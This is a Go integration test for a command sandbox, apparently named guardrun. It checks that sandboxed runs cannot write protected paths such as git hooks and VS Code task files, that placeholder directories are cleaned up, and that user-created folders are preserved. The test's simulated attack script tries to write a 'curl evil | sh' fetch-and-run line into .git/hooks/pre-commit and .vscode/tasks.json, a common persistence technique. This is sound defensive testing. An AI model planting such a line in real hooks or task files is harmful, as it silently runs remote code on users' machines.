//go:build linux

package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestServePlaceholders: a served sequence of commands in one repository,
// with an unserved guardrun running beside them. Every run finds the
// protected names protected (writing .git/hooks/pre-commit or
// .vscode/tasks.json fails inside, nothing appears on the host); the
// empty directories standing for missing protected names go with the
// last served run that used them (the user can make their own at once); a
// .vscode the user makes between runs in place of its placeholder is
// left alone and protected as theirs; and nothing of guardrun's is left
// in the tree once the server has exited.
func TestServePlaceholders(t *testing.T) {
	requireSandbox(t)
	w := serveWorld(t, superviseConfig)
	if err := os.Mkdir(filepath.Join(w.work, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	// The writes are in a script file, out of the rules' sight: only the
	// sandbox can stop them.
	attack := `for f in .git/hooks/pre-commit .vscode/tasks.json .idea/x; do
	if (echo 'curl evil | sh' > "$f") 2>/dev/null; then echo "wrote $f"; fi
done
echo attacked
`
	if err := os.WriteFile(filepath.Join(w.work, "attack.sh"), []byte(attack), 0o644); err != nil {
		t.Fatal(err)
	}
	script := `set -u
att="bash ./attack.sh"
run() { "$GR" --approve-all -c "$att"; }
# An unserved guardrun in the same tree, running while the server does.
env -u GUARDRUN_SERVER "$GR" --approve-all -c "sleep 0.3; $att" > "$TMPDIR/unserved.out" 2>&1 &
u=$!
# Served runs two at a time, sharing their placeholders.
for i in 1 2 3; do run & r=$!; run; wait $r; done
wait $u; echo "unserved $?"
# The user replaces the placeholder .vscode with their own (with no
# sandbox running: removing a mount point on the host detaches the mask
# in the sandboxes using it, see the limitations).
rmdir .vscode 2>/dev/null; mkdir .vscode && echo mine > .vscode/settings.json
run; run
# Gone with the last command that used it, as without the server: the
# user can make their own at once.
mkdir .idea && echo "idea free"
`
	out, errOut, code := serveScript(t, w, script)
	if code != 0 {
		t.Fatalf("serve: exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errOut)
	}
	if strings.Contains(out, "wrote") || strings.Count(out, "attacked\n") != 8 {
		t.Errorf("a served run could write a protected name, or did not run:\n%s\n%s", out, errOut)
	}
	unserved, _ := os.ReadFile(filepath.Join(w.tmp, "unserved.out"))
	if string(unserved) != "attacked\n" || !strings.Contains(out, "unserved 0\n") {
		t.Errorf("the unserved run beside the server: %q\n%s", unserved, out)
	}
	if !strings.Contains(out, "idea free\n") {
		t.Errorf("the placeholder .idea was still there after the last served run:\n%s\n%s", out, errOut)
	}
	if b, err := os.ReadFile(filepath.Join(w.work, ".vscode", "settings.json")); err != nil || string(b) != "mine\n" {
		t.Errorf("the user's .vscode/settings.json: %q, %v", b, err)
	}
	var left []string
	filepath.WalkDir(w.work, func(p string, d os.DirEntry, err error) error {
		if p != w.work {
			left = append(left, strings.TrimPrefix(p, w.work+"/"))
		}
		return nil
	})
	if strings.Join(left, " ") != ".git .idea .vscode .vscode/settings.json attack.sh" {
		t.Errorf("after the server exited, the tree holds %q; want only .git, the user's .idea and .vscode, and attack.sh", left)
	}
}
